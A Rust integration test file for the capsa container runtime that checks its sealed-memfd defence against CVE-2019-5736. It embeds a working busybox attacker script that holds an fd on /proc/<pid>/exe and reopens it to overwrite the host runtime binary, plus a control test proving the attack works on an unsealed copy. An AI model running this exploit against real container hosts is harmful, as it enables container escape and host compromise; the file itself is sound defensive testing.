//! CVE-2019-5736: a container process overwrites the runtime binary on the host through
//! `/proc/<pid>/exe`.
//!
//! The attack: while a runtime process runs inside the container (the init before it
//! execs the user's program, a `create`/`exec` helper, or the runtime binary itself run
//! by the kernel for a `#!/proc/self/exe` script), a container process opens
//! `/proc/<pid>/exe` of it. Writing through it at once fails with ETXTBSY while the
//! binary is executing, so the attacker keeps the fd (here: fd 3 of a busybox shell)
//! and reopens `/proc/self/fd/3` for writing as soon as no one executes the binary any
//! more. Against a runtime whose processes run the host's binary file, that reopen
//! succeeds and the host binary is rewritten: [`attack_succeeds_against_an_unsealed_binary`]
//! proves it with the same script against a plain host binary.
//!
//! capsa's defence: it re-executes itself from a sealed memfd before it forks anything
//! into a container, so every `/proc/<pid>/exe` a container can reach names an
//! anonymous, write-sealed copy. The tests run a private copy of the runtime binary so
//! that a successful attack damages a temp file, not the build; they compare its
//! sha256 afterwards and check from the host that the container-side processes do not
//! run the host file.
//!
//! Every test here gives the container CAP_SYS_PTRACE, so that opening `/proc/<pid>/exe`
//! of a runtime process is allowed; capsa then always takes the sealed copy. Containers
//! without it take the exec trampoline instead (`exe_guard` in capsa-linux):
//! `cve_2019_5736_trampoline.rs` attacks that path.

use std::fs;
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use capsa_integration_test::security::{
    copy_shared_libs, file_id, run_captured, sha256, wait_timeout, FullPipe, RuntimeCopy,
};
use capsa_integration_test::{loud, pid_alive, read_pid_file, wait_for_file, Bundle, Ctx};

use super::{add_caps, is_runc, known_failure, link_applets, write_exec, WAIT};

/// The attacker, a busybox shell script (`/attack.sh MODE`). MODE `pid1` attacks the
/// container's pid 1; MODE `scan` attacks the first other process whose executable is
/// not busybox. It writes `key=value` lines to `/out/log` and touches `/out/ready`,
/// `/out/caught` (it holds fd 3 on the victim's executable) and `/out/done`; the host
/// touches `/out/released` when no runtime process runs any more and `/out/stop` to
/// give up.
pub(crate) const ATTACK_SH: &str = r#"
mode=$1
out=/out
me=$$
log() { echo "$*" >> $out/log; }
# grab PID: open fd 3 on /proc/PID/exe (read-only: allowed while it executes), unless
# it is busybox itself.
grab() {
  { command exec 3</proc/$1/exe; } 2>/dev/null || return 1
  if [ /proc/self/fd/3 -ef /bin/busybox ]; then exec 3<&-; return 1; fi
  return 0
}
# open_rw LABEL PATH: open PATH for appending and write a marker; print the outcome.
open_rw() {
  if { command exec 4>>"$2"; } 2>/dev/null; then
    if { echo "PWNED-by-capsa-it-$1" >&4; } 2>/dev/null; then
      exec 4>&-; echo written; return 0
    fi
    exec 4>&-; echo open-ok-write-failed; return 1
  fi
  echo open-refused
  return 1
}
touch $out/ready
victim=
if [ "$mode" = pid1 ]; then
  grab 1 && victim=1
else
  while [ -z "$victim" ] && [ ! -e $out/stop ]; do
    for p in /proc/[0-9]*; do
      p=${p#/proc/}
      if [ "$p" = 1 ] || [ "$p" = "$me" ]; then continue; fi
      if grab "$p"; then victim=$p; break; fi
    done
  done
fi
if [ -z "$victim" ]; then
  log "grab=none"
  touch $out/done
  exec sleep 100000
fi
log "grab=ok"
log "victim=$victim"
log "exe=$(readlink /proc/self/fd/3)"
log "direct-now=$(open_rw direct /proc/$victim/exe)"
log "reopen-now=$(open_rw reopen /proc/self/fd/3)"
touch $out/caught
# Keep trying, directly and through the held fd, until the host says that no runtime
# process is left (then 40 more tries) or 30 s passed.
n=0; after=0; direct=open-refused; deferred=open-refused
while [ $n -lt 600 ]; do
  direct=$(open_rw direct /proc/$victim/exe)
  deferred=$(open_rw deferred /proc/self/fd/3)
  if [ "$direct" = written ] || [ "$deferred" = written ]; then break; fi
  if [ -e $out/released ]; then
    after=$((after+1))
    if [ $after -gt 40 ]; then break; fi
  fi
  sleep 0.05
  n=$((n+1))
done
log "direct=$direct"
log "deferred=$deferred"
touch $out/done
exec sleep 100000
"#;

/// `#!/proc/self/exe`: run as a program, the kernel executes the binary of the process
/// that called execve, i.e. the runtime's.
pub(crate) const SELF_EXE_SCRIPT: &str = "#!/proc/self/exe\n";

/// A bundle prepared for the attacks: CAP_SYS_PTRACE, `/out`, the attacker script, the
/// `#!/proc/self/exe` script at `/entry`, and the shared libraries of `binary` (so the
/// runtime binary can really run inside the container, as it would in an image with a
/// libc).
fn attack_bundle(ctx: &Ctx, prefix: &str, binary: &Path) -> (String, Bundle, std::path::PathBuf) {
    let (id, mut b) = ctx.id_and_bundle(prefix);
    add_caps(&mut b, &["CAP_SYS_PTRACE"]);
    let out = b.with_out_dir();
    link_applets(&b, &["readlink"]);
    write_exec(&b.rootfs(), "attack.sh", ATTACK_SH);
    write_exec(&b.rootfs(), "entry", SELF_EXE_SCRIPT);
    copy_shared_libs(binary, &b.rootfs());
    (id, b, out)
}

pub(crate) fn read_log(out: &Path) -> String {
    fs::read_to_string(out.join("log")).unwrap_or_default()
}

/// The attacker's verdict: panics (or, for a known-vulnerable runtime, reports) when
/// any write through `/proc/<pid>/exe` went through.
pub(crate) fn assert_not_written(log: &str, what: &str) {
    for key in ["direct-now", "reopen-now", "direct", "deferred"] {
        if let Some(v) = super::field(log, key) {
            assert_ne!(
                v, "written",
                "ATTACK SUCCEEDED ({what}): the container wrote the runtime binary via {key}:\n{log}"
            );
        }
    }
}

/// Host-side check of a container-side runtime process: its executable must not be
/// the runtime's file on the host. Returns the readlink of its exe for the messages.
fn assert_not_host_binary(copy: &RuntimeCopy, pid: u32, what: &str) -> String {
    let exe = format!("/proc/{pid}/exe");
    let link = fs::read_link(&exe)
        .map(|p| p.display().to_string())
        .unwrap_or_else(|e| format!("<{e}>"));
    let id = file_id(Path::new(&exe));
    if id == Some(copy.id()) {
        let msg = format!(
            "{what}: process {pid} runs the runtime's host file {} itself (exe -> {link}); \
             a container can reopen it for writing once it stops running",
            copy.path().display()
        );
        if is_runc() {
            // runc 1.1.5 runs from a read-only bind mount of its own file (the
            // ro-bindfd variant of its cloned-binary fix): same inode, but any
            // reopen for writing fails with EROFS. The hash check still applies.
            loud(&format!(
                "NOTE (runc): {msg}; runc relies on a read-only mount of it"
            ));
        } else {
            panic!("{msg}");
        }
    }
    link
}

/// Control: the attack script works. A copy of busybox on the host runs inside the
/// container's pid namespace (as a runtime's helper would), without the sealed re-exec;
/// the container's attacker grabs it and, once it exited, rewrites the host file.
/// If this ever fails, the attack below proves nothing and must be fixed.
#[test]
fn attack_succeeds_against_an_unsealed_binary() {
    let ctx = Ctx::new();
    let host = tempfile::Builder::new()
        .prefix("capsa-it-victim-")
        .tempdir()
        .expect("victim temp dir");
    // Named `sleep`, so that busybox runs its sleep applet.
    let victim = host.path().join("sleep");
    let nsenter = host.path().join("nsenter");
    fs::copy(capsa_integration_test::BUSYBOX, &victim).expect("copy busybox");
    // nsenter's own child runs nsenter for a moment inside the pid namespace: a copy,
    // so that a grab of it cannot damage the host's nsenter.
    let host_nsenter = ["/usr/bin/nsenter", "/bin/nsenter"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect("nsenter (util-linux) is needed for the control test");
    fs::copy(host_nsenter, &nsenter).expect("copy nsenter");
    let before = (sha256(&victim), sha256(&nsenter));

    let (id, b, out) = attack_bundle(
        &ctx,
        "x5736-ctl",
        Path::new(capsa_integration_test::BUSYBOX),
    );
    let mut b = b;
    b.args(&["sh", "/attack.sh", "scan"]);
    ctx.create_and_start(&b, &id);
    wait_for_file(&out.join("ready"), WAIT);
    let init = capsa_integration_test::state_pid(&ctx.state(&id));

    let mut cmd = std::process::Command::new(&nsenter);
    cmd.args(["--target", &init.to_string(), "--pid", "--"])
        .arg(&victim)
        .arg("3");
    let run = run_captured(cmd, Duration::from_secs(30));
    assert!(run.success(), "the victim did not run:\n{run}");
    fs::write(out.join("released"), "").expect("touch released");
    wait_for_file(&out.join("done"), Duration::from_secs(40));
    let log = read_log(&out);
    ctx.delete_force(&id).assert_success();

    let after = (sha256(&victim), sha256(&nsenter));
    assert_eq!(
        super::field(&log, "grab"),
        Some("ok"),
        "the attacker never caught the victim:\n{log}"
    );
    assert_eq!(
        super::field(&log, "deferred"),
        Some("written"),
        "the attack should rewrite an unsealed binary once it stopped running:\n{log}"
    );
    assert_ne!(
        after, before,
        "the attacker reported a write, yet neither host copy changed:\n{log}"
    );
}

/// The `create` window: the init is a fork of the runtime and waits in the container
/// for `start`. The attacker, exec'd into the created container, holds fd 3 on
/// `/proc/1/exe`; after `start` the init execs the user's program, nothing runs the
/// runtime binary any more, and a runtime without the defence gets its binary
/// rewritten through `/proc/self/fd/3`.
#[test]
fn created_init_cannot_be_reopened_for_writing() {
    let ctx = Ctx::new();
    let copy = RuntimeCopy::new();
    let (id, mut b, out) = attack_bundle(&ctx, "x5736-create", copy.path());
    b.args(&["sleep", "100000"]);
    let root = ctx.root();
    let pid_file = ctx.base().join("init.pid");
    copy.cmd(
        root,
        &[
            "create",
            "--bundle",
            b.path_str(),
            "--pid-file",
            pid_file.to_str().expect("utf-8"),
            &id,
        ],
    )
    .assert_success();
    let init = read_pid_file(&pid_file);
    let exe = assert_not_host_binary(&copy, init, "the created init");
    eprintln!("created init {init}: exe -> {exe}");

    copy.cmd(root, &["exec", "--detach", &id, "sh", "/attack.sh", "pid1"])
        .assert_success();
    wait_until_any(&out, &["caught", "done"], WAIT);
    copy.cmd(root, &["start", &id]).assert_success();
    fs::write(out.join("released"), "").expect("touch released");
    wait_for_file(&out.join("done"), Duration::from_secs(40));
    let log = read_log(&out);
    eprintln!("attacker log:\n{log}");
    ctx.delete_force(&id).assert_success();

    copy.assert_unchanged("through /proc/1/exe of the created init");
    if super::field(&log, "grab") != Some("ok") {
        loud(&format!(
            "NOTE: the attacker could not even open /proc/1/exe of the created init:\n{log}"
        ));
    }
    assert_not_written(&log, "created init");
}

/// The literal CVE: the container's program is a `#!/proc/self/exe` script, so the
/// kernel runs the runtime binary as the container's pid 1. Its stdout and stderr are a
/// full pipe, so it stays alive (blocked writing its usage error) while the attacker,
/// exec'd into the container, tries to open `/proc/1/exe` for writing, directly and
/// through a held fd. Against an unsealed runtime, pid 1 would be the host binary.
#[test]
fn self_exe_entrypoint_does_not_expose_the_host_binary() {
    let ctx = Ctx::new();
    let copy = RuntimeCopy::new();
    let (id, mut b, out) = attack_bundle(&ctx, "x5736-entry", copy.path());
    b.args(&["/entry"]);
    let root = ctx.root();
    let pid_file = ctx.base().join("init.pid");

    let mut pipe = FullPipe::new();
    let mut create = copy.command(
        root,
        &[
            "create",
            "--bundle",
            b.path_str(),
            "--pid-file",
            pid_file.to_str().expect("utf-8"),
            &id,
        ],
    );
    create
        .stdin(Stdio::null())
        .stdout(pipe.writer())
        .stderr(pipe.writer());
    let mut child = create.spawn().expect("spawn create");
    // The Command holds duplicates of the write end: drop them with it.
    drop(create);
    pipe.close_writer();
    let status = wait_timeout(&mut child, WAIT);
    if status.is_none_or(|s| !s.success()) {
        let _ = child.kill();
        let _ = child.wait();
        let text = pipe.drain(Duration::from_secs(5)).unwrap_or_default();
        panic!("create failed ({status:?}): {text}");
    }
    let init = read_pid_file(&pid_file);
    copy.cmd(root, &["start", &id]).assert_success();

    // pid 1 execs /entry; the kernel runs /proc/self/exe, which blocks on the pipe.
    let deadline = Instant::now() + WAIT;
    let mut cmdline = Vec::new();
    while Instant::now() < deadline && pid_alive(init) {
        cmdline = capsa_integration_test::security::cmdline_of(init);
        if cmdline.first().is_some_and(|a| a == "/proc/self/exe") {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    if !pid_alive(init) || cmdline.first().is_none_or(|a| a != "/proc/self/exe") {
        let text = pipe.drain(Duration::from_secs(5)).unwrap_or_default();
        if is_runc() {
            known_failure(&format!(
                "the #!/proc/self/exe entrypoint did not stay alive under runc \
                 (cmdline {cmdline:?}, output {text:?}); nothing to attack"
            ));
            return;
        }
        panic!("pid 1 never ran the runtime binary via #!/proc/self/exe (cmdline {cmdline:?}); output: {text}");
    }
    let exe = assert_not_host_binary(&copy, init, "pid 1 run via #!/proc/self/exe");
    eprintln!("pid 1 {init} runs {cmdline:?}, exe -> {exe}");

    copy.cmd(root, &["exec", "--detach", &id, "sh", "/attack.sh", "pid1"])
        .assert_success();
    wait_until_any(&out, &["caught", "done"], WAIT);
    // pid 1 still runs the binary: give the attacker a second of tries, then let it go.
    std::thread::sleep(Duration::from_secs(1));
    fs::write(out.join("released"), "").expect("touch released");
    wait_for_file(&out.join("done"), Duration::from_secs(40));
    let log = read_log(&out);
    eprintln!("attacker log:\n{log}");
    let text = pipe.drain(WAIT);
    eprintln!("pid 1 wrote: {text:?}");
    ctx.delete_force(&id).assert_success();

    copy.assert_unchanged("through /proc/1/exe of a #!/proc/self/exe entrypoint");
    assert_eq!(
        super::field(&log, "grab"),
        Some("ok"),
        "the attacker (with CAP_SYS_PTRACE) should be able to open /proc/1/exe read-only:\n{log}"
    );
    assert_not_written(&log, "#!/proc/self/exe entrypoint");
}

/// The `exec` window, as in the original exploit: the container's long-running process
/// is the attacker; the host runs `exec <id> /entry`, where `/entry` is
/// `#!/proc/self/exe`, so the runtime binary runs inside the container (held alive by a
/// full pipe). The attacker grabs its exe, the host lets it finish, and the attacker
/// reopens the held fd for writing: against an unsealed runtime, that rewrites the
/// host binary.
#[test]
fn exec_of_a_self_exe_script_does_not_expose_the_host_binary() {
    let ctx = Ctx::new();
    let copy = RuntimeCopy::new();
    let (id, mut b, out) = attack_bundle(&ctx, "x5736-exec", copy.path());
    b.args(&["sh", "/attack.sh", "scan"]);
    let root = ctx.root();
    copy.cmd(root, &["run", "--detach", "--bundle", b.path_str(), &id])
        .assert_success();
    wait_for_file(&out.join("ready"), WAIT);
    let init = capsa_integration_test::state_pid(&ctx.state(&id));

    let mut caught = false;
    let mut victims_seen = Vec::new();
    for attempt in 0..10 {
        let mut pipe = FullPipe::new();
        let mut exec = copy.command(root, &["exec", &id, "/entry"]);
        exec.stdin(Stdio::null())
            .stdout(pipe.writer())
            .stderr(pipe.writer());
        let mut child = exec.spawn().expect("spawn exec");
        drop(exec);
        pipe.close_writer();
        let deadline = Instant::now() + Duration::from_secs(5);
        let mut checked = false;
        let mut caught_at = None;
        while Instant::now() < deadline {
            if caught_at.is_none() && (out.join("caught").exists() || out.join("done").exists()) {
                caught = true;
                caught_at = Some(Instant::now());
            }
            // Once caught, wait a little for the #! victim to show up for the host check
            // (the attacker may have grabbed the runtime's helper before its exec).
            if caught_at.is_some_and(|t| checked || t.elapsed() > Duration::from_secs(2)) {
                break;
            }
            if !checked {
                for pid in capsa_integration_test::security::pids_with_cmdline(&[
                    "/proc/self/exe",
                    "/entry",
                ]) {
                    // In the container's pid namespace (its root reads as `/` from
                    // the host, so the namespace tells it apart).
                    let same_ns = fs::read_link(format!("/proc/{pid}/ns/pid")).ok()
                        == fs::read_link(format!("/proc/{init}/ns/pid")).ok();
                    if same_ns {
                        let exe = assert_not_host_binary(&copy, pid, "the exec'd #! victim");
                        victims_seen.push(format!("pid {pid} exe -> {exe}"));
                        checked = true;
                    }
                }
            }
            if let Ok(Some(_)) = child.try_wait() {
                break;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        // Let the victim finish: drain its output, then it and `exec` exit.
        let text = pipe.drain(WAIT);
        let status = wait_timeout(&mut child, WAIT);
        eprintln!("attempt {attempt}: exec {status:?}, output {text:?}");
        if caught {
            break;
        }
    }
    fs::write(out.join("released"), "").expect("touch released");
    if !caught {
        fs::write(out.join("stop"), "").expect("touch stop");
    }
    wait_for_file(&out.join("done"), Duration::from_secs(40));
    let log = read_log(&out);
    eprintln!("victims seen from the host: {victims_seen:?}\nattacker log:\n{log}");
    ctx.delete_force(&id).assert_success();

    copy.assert_unchanged("through /proc/<pid>/exe of an exec'd #!/proc/self/exe");
    if !caught {
        let msg = "the attacker never caught the exec'd runtime process in 10 tries";
        if is_runc() {
            // runc's #! run reports through runc exec's log pipe and exits at once,
            // so there is only a race to win; the hash check above still applies.
            known_failure(msg);
            return;
        }
        panic!("{msg}:\n{log}");
    }
    assert_eq!(super::field(&log, "grab"), Some("ok"), "{log}");
    assert_not_written(&log, "exec'd #!/proc/self/exe");
}

/// Waits until one of `names` exists in `dir`.
pub(crate) fn wait_until_any(dir: &Path, names: &[&str], timeout: Duration) {
    capsa_integration_test::wait_until(
        &format!("one of {names:?} in {}", dir.display()),
        timeout,
        || names.iter().any(|n| dir.join(n).exists()),
    );
}
